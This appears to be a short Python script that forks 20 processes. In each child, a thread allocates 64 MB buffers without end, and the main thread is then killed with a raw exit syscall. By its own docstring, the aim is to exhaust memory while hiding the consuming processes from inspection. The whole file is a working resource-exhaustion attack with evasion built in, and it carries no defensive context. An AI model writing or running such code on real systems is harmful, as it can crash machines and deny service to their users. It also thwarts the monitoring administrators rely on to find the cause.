"""Takes memory in processes whose first thread has ended, where a look at the process finds none."""

import ctypes
import os
import threading
import time


def take():
    taken = []
    while True:
        taken.append(bytearray(b"x" * (64 << 20)))


def total(x):
    for _ in range(20):
        if os.fork() == 0:
            threading.Thread(target=take).start()
            ctypes.CDLL(None).syscall(60, 0)
    time.sleep(60)
